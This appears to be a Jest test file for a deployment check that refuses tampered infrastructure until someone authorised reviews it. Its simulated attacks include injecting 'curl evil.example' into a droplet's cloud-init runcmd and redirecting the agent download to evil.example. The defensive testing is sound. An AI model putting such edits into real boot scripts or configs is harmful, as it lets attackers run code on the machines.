import { sha256 } from '../../plan/stack-json';
import { type Attack, lines, refused } from './a-synthesis';

const replaced =
  (program: string, text: string): Attack =>
  (_, synthesis) => {
    const { assets } = synthesis.stacks.staging;
    const path = Object.keys(assets).find((name) => name.includes(program))!;
    const bytes = Buffer.from(text);
    assets[path] = sha256(bytes);
    synthesis.files[sha256(bytes)] = bytes.toString('base64');
  };

test.each<[string, Attack, RegExp[]]>([
  [
    'the program of an apply',
    replaced('convergence-program', 'steal()'),
    [
      /^assets\/convergence-program\/[0-9A-F]{32}\/await\.js: got SHA-256 [0-9a-f]{16}…; allowed: the files that the code of this branch builds$/,
    ],
  ],
  [
    'the agent of a machine',
    replaced('agent-bundle', 'steal()'),
    [/^assets\/agent-bundle\/[0-9A-F]{32}\/agent\.js: got SHA-256/],
  ],
  [
    'what a machine boots, which no plan shows',
    ({ resource }) => {
      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
        'runcmd:',
        'runcmd:\n  - - curl\n    - evil.example',
      );
    },
    [
      /^resource\.digitalocean_droplet\.machine\.user_data: got another text; allowed: what the templates of this branch render$/,
    ],
  ],
  [
    'where a machine fetches its agent',
    ({ resource }) => {
      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
        'https://fra1.digitaloceanspaces.com',
        'https://evil.example',
      );
    },
    [/user_data: got another text/],
  ],
  [
    'in whose bucket it finds its agent',
    ({ resource }) => {
      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
        'CONFIG_BUCKET=asset-archive-staging-config',
        'CONFIG_BUCKET=somebody-elses-config',
      );
    },
    [/user_data: got another text/],
  ],
  [
    'and in a bucket of its own that more keys write',
    ({ resource }) => {
      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
        'CONFIG_BUCKET=asset-archive-staging-config',
        'CONFIG_BUCKET=asset-archive-staging-exchange',
      );
    },
    [/user_data: got another text/],
  ],
  [
    "and in a region where the name is somebody else's",
    ({ resource }) => {
      resource.digitalocean_droplet.machine.user_data = resource.digitalocean_droplet.machine.user_data.replace(
        'https://fra1.',
        'https://nyc3.',
      );
    },
    [/user_data: got another text/],
  ],
  [
    'the version of a provider',
    ({ terraform }) => {
      terraform.required_providers.digitalocean.version = '2.99.0';
    },
    [/^terraform\.required_providers\.digitalocean\.version: got "2\.99\.0"; allowed: "2\.71\.0"$/],
  ],
  [
    'the lock of the providers',
    (_, synthesis) => {
      synthesis.lock = synthesis.lock.replace('2.71.0', '2.99.0');
    },
    [
      /^\.terraform\.lock\.hcl: got digitalocean 2\.99\.0, github 6\.9\.0; allowed: digitalocean 2\.71\.0, github 6\.9\.0$/,
    ],
  ],
])('%s is refused until somebody who may write has read it', (_, attack, found) => {
  const message = refused(attack);
  expect(lines(message)).toEqual(found.map((pattern) => expect.stringMatching(pattern) as string));
  expect(message).toContain('the label "plan" lets it be planned (docs/workflows.md)');
  expect(refused(attack, { programRead: true })).toBeUndefined();
});

test('a file that is ours, in the place of another one, is not let through as it', () => {
  const swap: Attack = (
    _,
    {
      stacks: {
        staging: { assets },
      },
    },
  ) => {
    const [agent, convergence] = ['agent-bundle', 'convergence-program'].map((name) =>
      Object.keys(assets).find((path) => path.includes(name))!,
    );
    [assets[agent!], assets[convergence!]] = [assets[convergence!], assets[agent!]];
  };
  expect(lines(refused(swap))).toEqual([
    expect.stringMatching(/^assets\/agent-bundle\/.*: got SHA-256 .*, as the code of this branch builds it$/),
    expect.stringMatching(/^assets\/convergence-program\/.*: got SHA-256 .*, as the code of this branch builds it$/),
  ]);
});
